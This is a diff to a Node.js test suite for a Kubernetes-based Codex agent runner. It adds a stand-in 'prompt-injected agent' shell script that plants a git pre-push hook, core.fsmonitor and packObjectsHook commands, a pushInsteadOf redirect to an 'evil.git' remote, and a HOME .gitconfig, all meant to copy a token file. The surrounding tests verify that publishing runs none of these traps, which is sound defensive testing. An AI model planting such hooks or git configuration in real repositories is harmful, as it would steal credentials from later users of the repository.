@@ -1,8 +1,8 @@
 import { after, before, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
-import { execFileSync, spawn } from 'node:child_process';
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { projectRoot } from '../adapters/paths.js';
@@ -27,7 +27,21 @@ before(async () => {
   mkdirSync(join(root, 'bin'));
   // The stand-in: writes its answer; with CODEX_STANDIN_HANG it commits a first part and keeps working.
   writeFileSync(join(root, 'bin', 'codex'), `#!/bin/sh
+if [ -n "$CODEX_STANDIN_NOOP" ]; then exit 0; fi
 echo "hello from the agent" > SOLUTION.md
+if [ -n "$CODEX_STANDIN_HOSTILE" ]; then
+  # A prompt-injected agent: git configuration and hooks that would run in whoever works in this repository next.
+  printf '#!/bin/sh\\ncat "$CODEX_STANDIN_TOKEN" > "$CODEX_STANDIN_LEAKS/pre-push"\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push
+  git config core.fsmonitor "cat $CODEX_STANDIN_TOKEN > $CODEX_STANDIN_LEAKS/fsmonitor; false"
+  git config uploadpack.packObjectsHook "cat $CODEX_STANDIN_TOKEN > $CODEX_STANDIN_LEAKS/pack-objects; false"
+  git config url."$CODEX_STANDIN_LEAKS/evil.git".pushInsteadOf "$CODEXK8S_CLONE_URL"
+  printf '[core]\\n\\thooksPath = %s\\n' "$PWD/.git/hooks" > "$HOME/.gitconfig"
+fi
+if [ -n "$CODEX_STANDIN_FAIL" ]; then
+  git add -A && git -c user.name=codex -c user.email=codex@invalid commit -q -m "before the failure"
+  echo "codex: the model gave up" >&2
+  exit 3
+fi
 if [ -n "$CODEX_STANDIN_HANG" ]; then
   git add -A && git -c user.name=codex -c user.email=codex@invalid commit -q -m "first part"
   sleep 60
@@ -117,5 +131,73 @@ describe('codex-k8s agent-run', () => {
         // gone already
       }
     }
+  });
+  it('publish runs none of the git configuration, hooks or HOME files the agent left, as another user than the agent', async () => {
+    const workspace = join(root, 'ws4');
+    const leaks = join(root, 'leaks');
+    const home = join(root, 'shared-home');
+    mkdirSync(workspace);
+    mkdirSync(leaks);
+    mkdirSync(home);
+    git(leaks, 'init', '--quiet', '--bare', 'evil.git');
+    const env = (extra: Record<string, string> = {}) =>
+      settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-hostile', HOME: home, CODEX_STANDIN_HOSTILE: '1', CODEX_STANDIN_LEAKS: leaks, CODEX_STANDIN_TOKEN: join(root, 'token'), ...extra });
+    assert.equal((await runCli(['agent-run', 'checkout'], env())).code, 0);
+    const agent = await runCli(['agent-run', 'agent'], env({ CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') }));
+    assert.equal(agent.code, 0, agent.stderr);
+    assert.ok(existsSync(join(home, '.gitconfig')) && existsSync(join(workspace, 'repo', '.git', 'hooks', 'pre-push')), 'the stand-in planted its traps');
+    // What the traps did in the agent's own git calls is the agent's business (its container has no token).
+    for (const name of readdirSync(leaks)) if (name !== 'evil.git') rmSync(join(leaks, name));
+    // In the pod the agent's files belong to the agent's user, not to publish's: git calls that "dubious ownership".
+    if (process.getuid?.() === 0) execFileSync('chown', ['-R', '4242:4242', join(workspace, 'repo')]);
+    const published = await runCli(['agent-run', 'publish'], env());
+    assert.equal(published.code, 0, published.stderr);
+    assert.equal(JSON.parse(published.stdout).branch, 'codex/issue-7-hostile');
+    assert.equal(git(join(root, 'origin.git'), 'show', 'codex/issue-7-hostile:SOLUTION.md'), 'hello from the agent\n', 'pushed where it belongs');
+    assert.deepEqual(readdirSync(leaks), ['evil.git'], 'no hook or configuration of the agent ran');
+    assert.equal(git(join(leaks, 'evil.git'), 'for-each-ref').trim(), '', 'nothing was pushed where the agent pointed');
+  });
+
+  it('an agent that fails: publish pushes what it committed as a checkpoint and fails too, at once', async () => {
+    const workspace = join(root, 'ws5');
+    mkdirSync(workspace);
+    const env = (extra: Record<string, string> = {}) => settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-failed', CODEX_STANDIN_FAIL: '1', ...extra });
+    assert.equal((await runCli(['agent-run', 'checkout'], env())).code, 0);
+    const agent = await runCli(['agent-run', 'agent'], env({ CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') }));
+    assert.notEqual(agent.code, 0);
+    assert.match(agent.stderr, /codex exited with 3/);
+    const cli = join(projectRoot, 'bin', 'codex-k8s.js');
+    const publish = spawn(process.execPath, [cli, 'agent-run', 'publish'], { env: { ...process.env, ...env() }, stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    let err = '';
+    publish.stdout.on('data', (d) => (out += d));
+    publish.stderr.on('data', (d) => (err += d));
+    const code = await Promise.race([new Promise((resolve) => publish.once('exit', resolve)), new Promise((resolve) => setTimeout(resolve, 20_000, 'still waiting'))]);
+    publish.kill('SIGKILL');
+    assert.equal(code, 1, `publish: ${err}`);
+    assert.match(err, /the agent failed/);
+    assert.deepEqual(JSON.parse(out).checkpoint, true);
+    assert.equal(git(join(root, 'origin.git'), 'log', '-1', '--format=%s', 'codex/issue-7-failed').trim(), 'before the failure');
+  });
+
+  it('an agent that changed nothing: no branch is pushed and no pull request opened', async () => {
+    const workspace = join(root, 'ws7');
+    mkdirSync(workspace);
+    const env = settings(workspace, { CODEXK8S_BRANCH: 'codex/issue-7-noop', CODEX_STANDIN_NOOP: '1' });
+    assert.equal((await runCli(['agent-run', 'checkout'], env)).code, 0);
+    assert.equal((await runCli(['agent-run', 'agent'], { ...env, CODEXK8S_TOKEN_FILE: join(root, 'no-such-file') })).code, 0);
+    const published = await runCli(['agent-run', 'publish'], env);
+    assert.equal(published.code, 0, published.stderr);
+    assert.equal(JSON.parse(published.stdout).pullRequest, null);
+    assert.equal(git(join(root, 'origin.git'), 'branch', '--list', 'codex/issue-7-noop').trim(), '');
+    assert.ok(!github.pulls.some((p) => p.head === 'codex/issue-7-noop'));
+  });
+
+  it('checkout leaves the token nowhere in the workspace', async () => {
+    const workspace = join(root, 'ws6');
+    mkdirSync(workspace);
+    assert.equal((await runCli(['agent-run', 'checkout'], settings(workspace))).code, 0);
+    const grep = spawnSync('grep', ['-rl', '--', token, workspace], { encoding: 'utf8' });
+    assert.deepEqual([grep.status, grep.stdout], [1, ''], 'grep found no file holding the token');
   });
 });
